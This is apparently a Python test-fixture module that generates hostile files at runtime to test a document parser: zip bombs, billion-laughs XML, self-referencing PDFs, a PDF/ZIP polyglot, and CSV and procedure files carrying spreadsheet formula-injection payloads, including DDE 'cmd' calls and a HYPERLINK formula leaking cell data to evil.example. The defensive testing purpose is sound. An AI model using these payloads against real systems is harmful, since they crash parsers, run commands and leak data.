"""Hostile files, generated on the spot: nothing dangerous is kept in the repository."""

from __future__ import annotations

import csv
import io
import zipfile

import docx
import openpyxl

LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>\n"
)


def zip_bomb(kind: str, inflated_mb: int = 300) -> bytes:
    """A valid-looking XLSX or DOCX whose main part inflates to ``inflated_mb`` of zeros."""
    seed = io.BytesIO()
    if kind == "xlsx":
        openpyxl.Workbook().save(seed)
        part = "xl/worksheets/sheet1.xml"
    else:
        docx.Document().save(seed)
        part = "word/document.xml"
    out = io.BytesIO()
    with (
        zipfile.ZipFile(seed) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for name in src.namelist():
            if name != part:
                dst.writestr(name, src.read(name))
        with dst.open(part, "w", force_zip64=True) as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(inflated_mb):
                member.write(block)
    return out.getvalue()


def billion_laughs_docx() -> bytes:
    seed = io.BytesIO()
    docx.Document().save(seed)
    body = (
        LAUGHS + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
        '2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(seed) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            dst.writestr(name, body if name == "word/document.xml" else src.read(name))
    return out.getvalue()


def billion_laughs_bpmn() -> bytes:
    return (
        LAUGHS + '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" '
        'targetNamespace="x"><process id="p"><task id="t" name="&lol9;"/></process>'
        "</definitions>"
    ).encode()


def recursive_pdf() -> bytes:
    """A page tree whose node is its own kid, an outline that loops, and a self-referencing
    stream length: hand-written objects with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> >>",
        b"<< /Length 4 0 R >>\nstream\nBT /F1 12 Tf 72 720 Td (loop) Tj ET\nendstream",
        b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Title (again) /Parent 5 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return bytes(out)


def polyglot_pdf_zip(pdf: bytes) -> bytes:
    """A PDF with a ZIP archive appended: PDF readers read the front, ZIP readers the back."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("payload.csv", "a,b\n1,2\n")
    return pdf + archive.getvalue()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


def formula_csv() -> bytes:
    """Formulas as values and as a column name, quoted the way a spreadsheet writes them."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["supplier", "amount", "note", '=HYPERLINK("http://evil.example")'])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([formula, i * 10, FORMULAS[-1 - i], "x"])
    for i in range(20):
        writer.writerow([f"Supplier {i}", i, "ok", "y"])
    return out.getvalue().encode()


def formula_sop() -> bytes:
    return (
        b"Supplier payment procedure\n\n"
        b'1. The clerk enters =HYPERLINK("http://evil.example","invoice") in the ledger.\n'
        b"2. @SUM(1+1) The manager approves the invoice.\n"
        b"3. +cmd The finance team pays the supplier.\n"
        b"4. If the amount is over 5000, the director signs.\n"
    )
